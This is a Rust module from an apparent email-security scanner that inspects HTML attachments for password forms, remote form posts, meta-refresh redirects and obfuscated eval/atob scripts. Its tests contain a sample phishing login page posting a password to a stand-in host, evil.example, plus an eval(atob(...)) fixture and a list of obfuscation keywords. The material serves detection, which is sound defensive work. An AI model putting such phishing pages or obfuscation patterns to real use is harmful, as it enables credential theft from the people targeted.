//! HTML attachments: the page opens in the browser from the local disk, beyond URL filters. Smuggling
//! (a page that assembles a file) is a name-and-content check in [`crate::names`]; this adds what the
//! page does: credential forms and where they post, redirects, and script obfuscation.

use crate::{Node, Walk};
use spearwatch_core::{technique as t, Severity};

/// Bytes of a page read at most.
const MAX_HTML: usize = 4 << 20;

pub(crate) fn analyse(_w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
    let head = &data[..data.len().min(MAX_HTML)];
    let text = String::from_utf8_lossy(head);
    let page = spearwatch_message::html::scan(&text, MAX_HTML);
    node.format = Some("HTML page".into());
    node.push_text(&page.text);

    let password_forms: Vec<&str> = page
        .forms
        .iter()
        .filter(|f| f.has_password)
        .map(|f| {
            f.action
                .as_deref()
                .unwrap_or("(no action: submitted by script)")
        })
        .collect();
    if !password_forms.is_empty() {
        node.flag(
            "html.credential_form",
            Severity::High,
            "HTML attachment asks for a password",
            &[t::SPEARPHISHING_ATTACHMENT, t::PHISHING_FOR_INFORMATION],
            password_forms.join(", "),
            "a login form in a local file posts the password wherever its action points",
        );
    }
    let remote: Vec<&str> = page
        .forms
        .iter()
        .filter_map(|f| f.action.as_deref())
        .filter(|a| a.starts_with("http://") || a.starts_with("https://") || a.starts_with("//"))
        .collect();
    if !remote.is_empty() {
        node.flag(
            "html.remote_form",
            Severity::Medium,
            "HTML attachment submits a form to a web server",
            &[t::PHISHING_FOR_INFORMATION],
            remote.join(", "),
            "a page opened from disk has no business posting to a remote site",
        );
    }
    if let Some(target) = page.refresh.first() {
        node.flag(
            "html.meta_refresh",
            Severity::Medium,
            "HTML attachment redirects the browser to a web site",
            &[t::SPEARPHISHING_ATTACHMENT, t::MALICIOUS_LINK],
            target,
            "meta refresh in a local file: the attachment is a link in disguise",
        );
    }
    let lower = text.to_ascii_lowercase();
    let evals = [
        "eval(",
        "document.write(unescape",
        "document.write(atob",
        "unescape(",
        "atob(",
    ]
    .iter()
    .filter(|m| lower.contains(*m))
    .copied()
    .collect::<Vec<_>>();
    let longest = longest_encoded_run(head);
    if !evals.is_empty() && longest >= 2048 {
        node.flag(
            "html.obfuscated_script",
            Severity::Medium,
            "HTML attachment decodes and runs a large encoded blob",
            &[t::OBFUSCATED_FILES, t::HTML_SMUGGLING],
            evals.join(", "),
            format!("longest base64/hex/percent-encoded run: {longest} characters"),
        );
    }
}

/// Longest run of characters that base64, hex or %-escapes are made of.
fn longest_encoded_run(data: &[u8]) -> usize {
    let mut best = 0;
    let mut run = 0;
    for &b in data {
        if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'%' | b'\\') {
            run += 1;
            best = best.max(run);
        } else {
            run = 0;
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use crate::{analyse, Options};

    #[test]
    fn phishing_page_attachment() {
        let page = b"<html><body><p>Hometax login</p><form action=\"https://evil.example/p.php\" method=post><input name=u><input type=password name=p></form></body></html>";
        let n = analyse(page, "secure.html", None, &Options::default());
        assert!(n.has("html.credential_form"));
        assert!(n.has("html.remote_form"));
        assert!(n.text.contains("Hometax"));
        let plain = b"<html><body><p>Minutes of the meeting</p></body></html>";
        let n = analyse(plain, "minutes.html", None, &Options::default());
        assert!(n.findings.is_empty(), "{:?}", n.findings);
    }

    #[test]
    fn encoded_blob_with_eval() {
        let blob = "QUFB".repeat(1000);
        let page = format!("<html><script>eval(atob('{blob}'))</script></html>");
        let n = analyse(page.as_bytes(), "x.htm", None, &Options::default());
        assert!(n.has("html.obfuscated_script"));
    }
}
